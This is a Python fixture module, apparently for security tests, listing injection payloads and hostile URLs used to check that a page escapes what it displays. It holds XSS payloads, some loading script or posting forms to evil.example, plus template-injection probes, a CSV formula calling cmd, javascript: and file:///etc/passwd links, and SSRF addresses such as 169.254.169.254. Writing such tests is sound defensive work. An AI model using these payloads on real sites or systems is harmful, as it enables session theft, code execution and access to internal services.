"""Payloads: words that are harmless as text, and an attack wherever somebody forgot that they are words."""

from __future__ import annotations

MARK = "pwned"
"""What every payload calls, or names its elements after."""
PAYLOADS = (
    '<script>pwned("script")</script>',
    "<ScRiPt src=//evil.example/pwned.js></sCrIpT>",
    '"><img src=x onerror=pwned("attribute")>',
    "'><svg/onload=pwned()>",
    '" onmouseover="pwned()" autofocus onfocus="pwned()" x="',
    "' onclick='pwned()' accesskey='x",
    "</textarea><script>pwned()</script>",
    "</title></style></script><script>pwned()</script>",
    "</option></select><img src=x onerror=pwned()>",
    "--><iframe srcdoc='<script>parent.pwned()</script>'></iframe><!--",
    "<iframe src=javascript:parent.pwned()></iframe>",
    "<a href=javascript:pwned()>pwned</a>",
    "[pwned](javascript:pwned()) ![pwned](https://evil.example/pwned.png)",
    "<base href=https://evil.example/><form action=https://evil.example/><input name=pwned>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<link rel=stylesheet href=https://evil.example/pwned.css><style>*{display:none}</style>",
    "<object data=data:text/html,pwned></object><embed src=data:text/html,pwned>",
    "<math><mi xlink:href=data:x,pwned>x</mi></math><video><source onerror=pwned()></video>",
    "{{ 191 * 7 }} {% print(191 * 7) %} ${191 * 7} #{191 * 7} <%= 191 * 7 %>",
    "{{ config.items() }}{{ ''.__class__.__mro__ }}",
    "&lt;script&gt;pwned()&lt;/script&gt; &#60;script&#62;pwned()&#60;/script&#62;",
    "\uff1cscript\uff1epwned()\uff1c/script\uff1e \u02bascript\u02ba \u2039b\u203a",
    "<script\u2003>pwned()</script> <\u200bscript>pwned()</script>",
    "=cmd|'/c calc'!A1 @SUM(1) -2+3",
    "%3Cscript%3Epwned()%3C/script%3E \\x3cscript\\x3e \\u003cscript\\u003e",
    "`pwned()` ]]> <![CDATA[<script>pwned()</script>]]>",
    "W" * 180,
    "e" + "\u0301" * 60,
)
COMPUTED = "1337"
"""What the payloads in braces come to where a template computes them."""
LONE = "\udcff"
"""Half of a character."""
UNSEEN = ("\u202e", "\u2066", "\0", "\x1b[2J", LONE, "\U000e0041", "\ufffe", "\x7f", "\x85\x9b")
"""Characters that turn the order of what is read, are no text, or can't be seen."""
ADDRESSES = (
    "javascript:pwned()",
    "JaVaScRiPt:pwned()",
    " javascript:pwned()",
    "java\tscript:pwned()",
    "java\nscript:pwned()",
    "\x01javascript:pwned()",
    "javascript://example.org/%0apwned()",
    "data:text/html,<script>pwned()</script>",
    "data:image/svg+xml;base64,PHN2Zy8+",
    "vbscript:pwned",
    "file:///etc/passwd",
    "blob:https://example.org/1",
    "about:blank",
    "ftp://example.org/x",
    "//example.org/x",
    "https:example.org",
    "https:///example.org",
    'https://example.org/"onmouseover="pwned()',
    "https://example.org/<script>pwned()</script>",
    "https://example.org/'`",
    "https://user:secret@example.org/",
    "https://example.org@evil.example/",
    "https://example.org\\@evil.example/",
    "https://[::1]/",
    "https://127.0.0.1/",
    "http://169.254.169.254/latest/meta-data/",
    "http://localhost/",
    "http://2130706433/",
    "http://0x7f.1/",
    "http://0177.0.0.1/",
    "http://\u2460\u2461\u2466.0.0.1/",
    "http://127\u30020\u30020\u30021/",
    "http://metadata.internal/",
    "https://example.org:99999/",
    "https://example.org/" + "a" * 3000,
    "https://" + "a" * 300 + ".example.org/",
    "https://xn--/",
    "https://example.org/\u202egpj.exe",
    "https://example.org/%0d%0aSet-Cookie:a=b",
    "{{ 191 * 7 }}",
)
"""What may not be an address that a page links to, and what may only as it is."""


def in_one(longest: int, skip: int = 0) -> str:
    """As many payloads as have room, one a line."""
    told: list[str] = []
    for payload in PAYLOADS[skip:]:
        if sum(map(len, told)) + len(told) + len(payload) <= longest:
            told.append(payload)
    return "\n".join(told)
